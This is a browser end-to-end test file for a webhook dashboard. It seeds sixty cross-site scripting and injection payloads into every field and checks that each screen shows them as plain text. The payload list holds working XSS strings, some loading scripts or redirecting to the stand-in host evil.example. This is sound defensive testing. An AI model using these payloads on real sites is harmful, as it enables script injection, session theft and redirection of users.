/** What users and receivers write is text on every screen, whatever it looks like. */
import type { Request } from 'playwright-core';
import { beforeAll, describe, expect, test, vi } from 'vitest';
import type { ApiKey } from '@tidings/core/api-key';
import type { Delivery } from '@tidings/core/delivery';
import type { Interaction } from '@tidings/core/interaction';
import type { TestInbox } from '@tidings/core/test-inbox';
import type { Webhook } from '@tidings/core/webhook';
import type { Reply } from '../../server/test/receiver.ts';
import { signIn } from './person.ts';
import { AS_LONG_AS_POLLS, setScene } from './scene.ts';

const scene = setScene();

const RUN = 'window.__ran=1';
/** Ways of having a page run something, fetch something, or be somewhere else. */
const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="http://evil.example/pixel.gif">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe src="javascript:${RUN}">`,
  `<iframe srcdoc="<script>parent.__ran=1</script>">`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<form action="http://evil.example"><button>Go`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<body onload=${RUN}>`,
  `<meta http-equiv=refresh content="0;url=http://evil.example">`,
  `<base href="http://evil.example/">`,
  `<link rel=stylesheet href="http://evil.example/x.css">`,
  `<style>@import 'http://evil.example/x.css';</style>`,
  `<style>*{background:url(http://evil.example/)}</style>`,
  `<div style="background:url(http://evil.example/)">`,
  `<math><mtext><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<dialog open><script>${RUN}</script>`,
  `<x onclick=${RUN} tabindex=1>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus='`,
  `\`-${RUN}-\``,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `javascript:${RUN}`,
  `jav\tascript:${RUN}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `//evil.example/x`,
  `__proto__`,
  `constructor`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `<\u2028script>${RUN}</script>`,
  `\u202e<script>${RUN}</script>\u202c`,
];

const organization = 'attacked';
const label = (n: number): string => PAYLOADS[n % PAYLOADS.length]!.replaceAll(/[\u0000-\u001f]/g, ' ');

let answered = 0;
const attack = (): Reply => {
  const body = PAYLOADS[answered++ % PAYLOADS.length]!;
  const headers = { 'content-type': 'text/html', 'x-said': body.replaceAll(/[^\x20-\x7e]/g, '') };
  return { status: answered % 3 === 0 ? 200 : 400, headers, body };
};

let hook: Webhook;
let failed: Delivery;
let inbox: TestInbox;
beforeAll(async () => {
  const { tidings, receiver } = scene;
  receiver.respond(attack);
  const post = async <T>(path: string, body: unknown): Promise<T> => {
    const answer = await tidings.request<T>('POST', path, body);
    if (answer.status >= 300) throw new Error(`${path}: ${answer.text}`);
    return answer.body;
  };
  hook = await tidings.createWebhook({
    name: label(0),
    organization,
    url: receiver.url,
    retry: 'none',
  });
  for (let n = 1; n < 12; n++)
    await tidings.createWebhook({
      name: label(n * 5).slice(0, 100),
      description: label(n * 5 + 1),
      organization,
      url: `${receiver.url}/?${encodeURIComponent(label(n))}`,
      events: [],
    });
  for (const n of [3, 4, 5])
    await tidings.request('PUT', `/v1/webhooks/${hook.id}/watchers/policy/p${n}`, {
      name: label(n),
      triggers: ['*'],
    });
  await post('/v1/alert-rules', {
    name: label(2).slice(0, 100),
    description: label(4),
    organization,
    match: { types: ['attack.*'] },
    groupBy: ['agentId'],
    condition: { count: { atLeast: 1 } },
    windowSeconds: 60,
  });
  await post('/v1/event-types', {
    name: 'attack.known',
    organization,
    group: 'attack',
    description: label(6),
    schema: { type: 'object', title: label(7), properties: { [label(8)]: { description: label(9) } } },
    example: { text: label(10) },
  });
  await post(`/v1/projects`, { id: 'p0', organization, name: label(20).slice(0, 100) });
  await post(`/v1/projects`, { id: 'p1', organization, name: label(21).slice(0, 100) });
  await tidings.request('PATCH', `/v1/organizations/${organization}`, { name: label(22).slice(0, 100) });
  for (const n of [23, 24]) {
    const name = label(n).slice(0, 100);
    await post('/v1/api-keys', { name, organization, project: 'p1', permissions: ['events:write'] });
    await post('/v1/members', { name, email: `n${n}@example.com`, role: 'viewer', organization });
    await post('/v1/webhooks', {
      ...{ name, organization, project: 'p1', type: 'slack', events: ['webhook.*', 'alert.opened'] },
      config: { token: 'xoxb-12345678', channel: label(n).slice(0, 60), host: receiver.url },
    });
  }
  for (const n of [2, 27]) {
    const made = await post<ApiKey>('/v1/api-keys', {
      name: label(n),
      organization,
      permissions: ['events:write'],
    });
    const why = encodeURIComponent(label(n));
    const { status } = await tidings.request('DELETE', `/v1/api-keys/${made.id}?reason=${why}`);
    expect(status).toBe(204);
  }
  for (const search of [11, 12])
    await post('/v1/saved-searches', { name: label(search).slice(0, 100), query: '', organization });
  for (const [n, payload] of PAYLOADS.entries())
    await tidings.send({
      organization,
      type: 'attack.known',
      agentId: payload,
      summary: payload,
      source: { kind: 'policy', id: payload, name: payload },
      links: [{ href: `https://ok.example/${encodeURIComponent(payload)}`, text: payload }],
      context: { [payload]: payload },
      data: { text: payload, [payload]: [payload, n] },
    });
  inbox = await post<TestInbox>('/v1/test-inboxes', { name: label(25).slice(0, 100), organization });
  for (const payload of PAYLOADS.slice(0, 40)) {
    const visible = payload.replaceAll(/[^\x20-\x7e]/g, '').trim();
    await fetch(`${inbox.url}?${encodeURIComponent(visible)}`, {
      method: 'POST',
      headers: { 'content-type': 'text/html', 'x-said': visible, 'webhook-id': visible },
      body: JSON.stringify({ [payload]: payload }),
    });
  }
  const asked = await post<Interaction>('/v1/interactions', {
    organization,
    question: PAYLOADS.slice(0, 20).join(' ').slice(0, 1000),
    actions: [
      { id: 'go', label: label(1).slice(0, 30) },
      { id: 'deny', label: label(2).slice(0, 30) },
    ],
    quorum: 2,
    agentId: label(13),
    data: Object.fromEntries(PAYLOADS.map((payload, n) => [payload, n])),
    links: [{ href: 'https://ok.example/', text: label(14) }],
  });
  await post(`/v1/interactions/${asked.id}/respond`, {
    action: 'go',
    comment: label(15),
    responder: { id: 'u-1', name: label(16) },
  });
  failed = await vi.waitFor(async () => {
    const found = await tidings.deliveries(hook.id, '?status=failed');
    expect(found.length).toBeGreaterThan(10);
    return found[0]!;
  }, AS_LONG_AS_POLLS);
  await post('/v1/replays', {
    ...{ organization, start: '-1h', rateLimit: { perSecond: 1 } },
    query: JSON.stringify(PAYLOADS[2]),
  });
  const changed = await tidings.request('PATCH', `/v1/webhooks/${hook.id}`, {
    filters: { 'attack.*': { text: { in: PAYLOADS.slice(0, 20) } } },
    headers: { 'x-own': label(26).replaceAll(/[^\x20-\x7e]/g, '') },
  });
  expect(changed.text).toContain('text');
  expect(changed.status).toBe(200);
});

/** By what they show; of what there is then. */
const SCREENS: Record<string, () => string[]> = {
  'the overview and webhooks': () => [
    '/overview',
    '/webhooks',
    '/webhooks?view=tiles',
    `/webhooks/${hook.id}`,
    `/webhooks/${hook.id}/deliveries`,
    `/webhooks/${hook.id}/test`,
    `/webhooks/${hook.id}/filters`,
    `/webhooks/${hook.id}/security`,
    `/webhooks/${hook.id}/settings`,
    `/webhooks/${hook.id}/audit`,
    `/webhooks/${hook.id}?alert=true`,
    `/webhooks?project=${encodeURIComponent(PAYLOADS[34]!)}`,
  ],
  'logs, alerts, the catalog and test inboxes': () => [
    `/deliveries/${hook.id}/${failed.id}`,
    '/deliveries',
    '/events',
    '/alerts',
    '/alerts/rules',
    '/interactions',
    '/issues',
    '/catalog',
    '/catalog/type?name=attack.known',
    '/test-inboxes',
    `/test-inboxes/${inbox.id}`,
    '/test-inboxes/send?event=attack.known',
    `/deliveries?q=${encodeURIComponent(PAYLOADS[34]!)}`,
    `/events?q=${encodeURIComponent(PAYLOADS[2]!)}`,
    `/alerts/rules/new`,
  ],
  'the settings': () => [
    '/settings/audit-log',
    '/settings/members',
    '/settings/api-keys',
    '/settings/api-keys?revoked=true',
    '/settings/organization',
    '/settings/project?project=p1',
    `/settings/project?project=${encodeURIComponent(PAYLOADS[2]!)}`,
    '/settings/integrations',
    '/settings/notifications',
    '/settings/keyboard',
    '/settings/about',
    '/settings/account',
  ],
};

describe('sixty payloads in every field run nothing, fetch nothing and lead nowhere', () => {
  test.each(Object.entries(SCREENS))('on %s', async (_, screens) => {
    const { tidings, receiver, person } = scene;
    const { page, origin } = person;
    receiver.respond(attack);
    await signIn(person, tidings);
    const openAll = async (name: RegExp, most: number): Promise<void> => {
      for (let n = 0; n < most; n++) {
        const button = page.getByRole('button', { name, expanded: false }).nth(n);
        if ((await button.count()) === 0) return;
        await button.click();
      }
    };
    const underWay = new Set<Request>();
    page.on('request', (request) => {
      if (!/\/v1\/live|[?&]wait=/.test(request.url())) underWay.add(request);
    });
    page.on('requestfinished', (request) => void underWay.delete(request));
    page.on('requestfailed', (request) => void underWay.delete(request));
    for (const screen of screens()) {
      const scoped = `${screen}${screen.includes('?') ? '&' : '?'}organization=${organization}`;
      await page.goto(origin + scoped);
      await page.getByRole('main').getByRole('heading').first().waitFor();
      // The live stream goes on and on, and a call may wait for what comes; all else ends.
      const loads = page.getByRole('status', { name: /^Loading/ });
      await expect.poll(async () => underWay.size + (await loads.count())).toBe(0);
      await openAll(/^Details of/, 3);
      if (screen === '/deliveries') {
        await page.getByRole('button', { name: 'Export, replay or cancel all' }).click();
        await page.getByRole('button', { name: 'Past replays…' }).click();
        await page.getByRole('dialog').getByText(PAYLOADS[2]!).first().waitFor();
      }
      expect(new URL(page.url()).pathname, screen).toBe(screen.replace(/\?.*/, ''));
      const found = await page.evaluate(() => ({
        ran: '__ran' in window,
        made: document.querySelectorAll(
          'main :is(script, iframe, object, embed, img, link, base, meta, marquee, video)',
        ).length,
        linked: [...document.querySelectorAll('a[href], form[action]')].filter((element) =>
          /^\s*(javascript|data|vbscript):/i.test(
            element.getAttribute('href') ?? element.getAttribute('action') ?? '',
          ),
        ).length,
      }));
      expect(found, screen).toEqual({ ran: false, made: 0, linked: 0 });
      // As text it is there.
      if (screen === '/webhooks') await page.getByText(label(0), { exact: true }).waitFor();
      if (screen === '/events') await page.getByText(PAYLOADS.at(-2)!).first().waitFor();
    }
    // Dialogs, refusals of the policy and requests to others are among the complaints.
    expect(person.complaints).toEqual([]);
  });
});
